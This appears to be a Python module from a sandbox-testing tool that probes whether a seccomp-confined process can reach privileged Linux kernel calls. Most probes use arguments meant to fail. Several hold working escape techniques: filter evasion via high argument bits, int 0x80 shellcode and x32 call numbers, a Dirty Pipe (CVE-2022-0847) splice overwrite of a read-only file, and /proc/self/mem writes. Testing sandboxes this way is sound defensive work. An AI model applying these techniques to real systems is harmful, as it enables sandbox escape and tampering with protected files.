"""The kernel's own machinery: its modules, its programs, its clock, and its less trodden calls.

Arguments are chosen so that the kernel, once it looks at them, finds fault with them: nothing is loaded, booted or
switched off even where a call gets through."""

import ctypes
import mmap
import os
import platform
import struct
import time

from probe import Absent, LIBC, call, numbered, probe, way

X86 = platform.machine() == "x86_64"
AT_FDCWD = -100


@probe("load and remove kernel modules")
def modules():
    way("init_module", lambda: call("init_module", b"no module", 9, b""), taken=True)
    way("finit_module", lambda: call("finit_module", os.open("canary", os.O_RDONLY), b"", 0), taken=True)
    way("delete_module", lambda: call("delete_module", b"no_such_module", 0), taken=True)


@probe("load another kernel")
def kexec():
    # No such flags: whoever gets as far is told so.
    way("kexec_load", lambda: call("kexec_load", 0, 1, None, 0xFFFF), taken=True)
    way("kexec_file_load", lambda: call("kexec_file_load", -1, -1, 0, None, 0xFFFF), taken=True)


@probe("load programs into the kernel")
def bpf():
    attributes = struct.pack("IIII", 2, 4, 4, 1) + bytes(112)  # An array of one number.
    way("a map", lambda: call("bpf", 0, attributes, len(attributes)))
    code = struct.pack("<BBhi", 0xB7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)
    held, licence = ctypes.create_string_buffer(code, len(code)), ctypes.create_string_buffer(b"GPL")
    program = struct.pack("IIQQ", 1, 2, ctypes.addressof(held), ctypes.addressof(licence)) + bytes(104)
    way("a program", lambda: call("bpf", 5, program, len(program)))


@probe("count events of the processor and the kernel")
def perf():
    software_clock = struct.pack("IIQ", 1, 112, 0) + bytes(96)
    way("of itself", lambda: call("perf_event_open", software_clock, 0, -1, -1, 0))
    way("of a whole processor", lambda: call("perf_event_open", software_clock, -1, 0, -1, 0))
    # Of the processor's own counters, which a virtual one may not have.
    cycles = struct.pack("IIQ", 0, 112, 0) + bytes(96)
    way("of the hardware", lambda: call("perf_event_open", cycles, 0, -1, -1, 0), taken=True)


@probe("hold the kernel up in page faults")
def userfaultfd():
    way("of kernel and user", lambda: call("userfaultfd", 0))
    way("of user code alone", lambda: call("userfaultfd", 1))
    way("memory that the kernel cannot see", lambda: call("memfd_secret", 0))


@probe("have the kernel make calls on its behalf, around the filter")
def io_uring():
    way("set up", lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)))
    way("enter", lambda: call("io_uring_enter", 0, 1, 0, 0, None, 0), taken=True)
    way("register", lambda: call("io_uring_register", 0, 99, None, 0), taken=True)


@probe("use keyrings, which no namespace keeps apart")
def keyrings():
    way("add_key", lambda: call("add_key", b"user", b"rouse-probe", b"x", 1, -1))
    way("request_key", lambda: call("request_key", b"user", b"rouse-probe", None, 0), taken=True)
    way("join a session", lambda: call("keyctl", 1, None))
    way("the user's keyring", lambda: call("keyctl", 0, -4, 1))


@probe("talk to hardware")
def ports():
    way("iopl", lambda: call("iopl", 3))
    way("ioperm", lambda: call("ioperm", 0x80, 1, 1))


@probe("restart or stop the machine")
def reboot():
    # Without the magic numbers.
    way("reboot", lambda: call("reboot", 0, 0, 0, 0), taken=True)


@probe("change the host's swap")
def swap():
    way("swapon", lambda: call("swapon", b"/no-such-file", 0), taken=True)
    way("swapoff", lambda: call("swapoff", b"/no-such-file"), taken=True)


@probe("set the host's clock", control="none: it would set the host's clock")
def clock():
    def now():
        # The time that it is: what gets through changes little.
        return struct.pack("qq", int(time.time()), 0)

    way("settimeofday", lambda: call("settimeofday", now(), None))
    way("clock_settime", lambda: call("clock_settime", 0, now()))
    way("adjtimex", lambda: call("adjtimex", struct.pack("Iqqqqiq", 0x10, 0, 0, 0, 0, 0, 0) + bytes(200)))
    way("clock_adjtime", lambda: call("clock_adjtime", 0, struct.pack("Iq", 0x10, 0) + bytes(200)))


@probe("name the machine")
def names():
    way("sethostname", lambda: call("sethostname", b"probe", 5))
    way("setdomainname", lambda: call("setdomainname", b"probe", 5))


@probe("switch on the accounting of processes")
def accounting():
    way("acct", lambda: call("acct", b"/no-such-file"), taken=True)


@probe("read the kernel's log")
def kernel_log():
    way("its size", lambda: call("syslog", 10, None, 0))
    way("its lines", lambda: call("syslog", 3, ctypes.create_string_buffer(256), 256))


@probe("change quotas of disks")
def quotas():
    way("quotactl", lambda: call("quotactl", 0x800002 << 8, b"/no-such-device", 0, None), taken=True)
    way("quotactl_fd", lambda: call("quotactl_fd", 99, 0x800002 << 8, 0, None), taken=True)


@probe("switch off the randomness of its addresses, or run as another system")
def personality():
    way("ADDR_NO_RANDOMIZE", lambda: call("personality", 0x0040000))
    way("READ_IMPLIES_EXEC", lambda: call("personality", 0x0400000))
    way("32 bits", lambda: call("personality", 0x0008))


@probe("change its segments")
def segments():
    descriptor = struct.pack("IIII", 0, 0, 0xFFFFF, 0x51)
    way("modify_ldt reads", lambda: call("modify_ldt", 0, ctypes.create_string_buffer(64), 64))
    way("modify_ldt writes", lambda: call("modify_ldt", 1, descriptor, 16))


@probe("open files by handle, around every path")
def handles():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
    mount_id = ctypes.c_int()
    way("name", lambda: call("name_to_handle_at", AT_FDCWD, b"/usr", handle, ctypes.byref(mount_id), 0))
    way("open", lambda: call("open_by_handle_at", AT_FDCWD, handle, 0), taken=True)


@probe("watch whole file systems")
def watching():
    way("fanotify_init", lambda: call("fanotify_init", 0, 0))
    way("fanotify_mark", lambda: call("fanotify_mark", 99, 1, 0, 1, AT_FDCWD, b"/"), taken=True)


@probe("get rid of its filter of system calls")
def filter_removal():
    def mode():
        with open("/proc/self/status") as file:
            return next(line.split()[1] for line in file if line.startswith("Seccomp:"))

    def free(act):
        def then():
            act()
            return mode() == "0"
        return then

    way("prctl(PR_SET_SECCOMP, 0)", free(lambda: LIBC.prctl(22, 0, 0, 0, 0)))
    way("exec", lambda: os.popen("/usr/bin/grep Seccomp: /proc/self/status").read().split()[1] == "0")
    # A filter that lets all through, added: the stricter one counts.
    allow = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0x7FFF0000), 8)
    program = struct.pack("HxxxxxxQ", 1, ctypes.addressof(allow))

    def add():
        LIBC.prctl(38, 1, 0, 0, 0)
        call("seccomp", 1, 0, program)
        return call("fsopen", b"tmpfs", 0)

    way("a filter that allows all", add)


@probe("hide what it asks for from a filter that reads all 64 bits, where the kernel reads 32")
def high_bits():
    high = 1 << 32
    way("a packet socket", lambda: call("socket", high | 17, 3, 0))
    way("a namespace", lambda: call("clone", high | 0x10000000 | 17, 0, 0, 0, 0))
    way("another system", lambda: call("personality", high | 0x0040000))
    way("another network of the kernel's", lambda: call("socket", 16, 3, high | 12))


def machine_code(code):
    """Runs machine code as a function that gives a number."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()


@probe("make calls of 32 bits, whose numbers mean others")
def calls_of_32_bits():
    def interrupt(number):
        if not X86:
            raise Absent("another architecture")
        # push rbx; mov eax, number; xor ebx, ebx; int 0x80; pop rbx; ret
        result = machine_code(b"\x53\xb8" + struct.pack("<I", number) + b"\x31\xdb\xcd\x80\x5b\xc3")
        if -4096 < result < 0:
            raise OSError(-result, "int 0x80")
        return ["answered", result]

    way("getpid by int 0x80", lambda: interrupt(20))
    way("unshare by int 0x80", lambda: interrupt(310))
    way("mount by int 0x80", lambda: interrupt(21), taken=True)


@probe("make calls of the x32 kind, whose numbers a filter may not know")
def calls_of_x32():
    def x32(name, *args):
        if not X86:
            raise Absent("another architecture")
        return numbered(0x40000000 + {"mount": 165, "ptrace": 521, "unshare": 272, "getpid": 39}[name], *args)

    way("unshare", lambda: x32("unshare", 0x10000000))
    way("mount", lambda: x32("mount", b"none", b"/tmp", b"tmpfs", 0, None))
    way("ptrace", lambda: x32("ptrace", 0, 0, 0, 0))


@probe("make calls that came after the filter was written", control="none: there are no such calls yet")
def calls_of_the_future():
    for number in [600, 1000, 5000, 0x7FFFFFFF]:
        way(f"number {number}", lambda number=number: numbered(number, 0, 0, 0, 0, 0, 0), taken=True)


@probe("write into the page cache of a read-only file through a pipe",
       control="none: kernels have been mended (CVE-2022-0847); the probe shows that this one is")
def dirty_pipe():
    def splice():
        before = open("canary", "rb").read()
        source = os.open("canary", os.O_RDONLY)
        read, write = os.pipe()
        # Filled and emptied: each slot keeps the flag that lets writes be merged into its page.
        for _ in range(16):
            os.write(write, bytes(4096))
        for _ in range(16):
            os.read(read, 4096)
        offset = ctypes.c_long(0)
        call("splice", source, ctypes.byref(offset), write, None, 1, 0)
        os.write(write, b"overwritten")
        return open("canary", "rb").read() != before

    def vmsplice():
        before = open("canary", "rb").read()
        source = os.open("canary", os.O_RDONLY)
        page = mmap.mmap(source, 0, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
        address = LIBC.mmap
        address.restype, address.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
        at = address(None, 4096, 1, 1, source, 0)
        read, write = os.pipe()
        vector = struct.pack("QQ", at, 16)
        call("vmsplice", write, vector, 1, 8)
        os.write(write, b"overwritten")
        page.close()
        return open("canary", "rb").read() != before

    way("splice", splice)
    way("vmsplice with a gift", vmsplice)


@probe("write into read-only memory of a file through /proc/self/mem",
       control="none: it is refused to everybody; the probe shows that this kernel does")
def self_mem():
    def poke(flags):
        before = open("canary", "rb").read()
        source = os.open("canary", os.O_RDONLY)
        address = LIBC.mmap
        address.restype, address.argtypes = ctypes.c_void_p, [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
        at = address(None, 4096, 1, flags, source, 0)
        with open("/proc/self/mem", "r+b", buffering=0) as file:
            file.seek(at)
            try:
                file.write(b"overwritten")
            except OSError:
                pass
        return open("canary", "rb").read() != before

    way("shared", lambda: poke(1))
    way("private, which copies", lambda: poke(2))
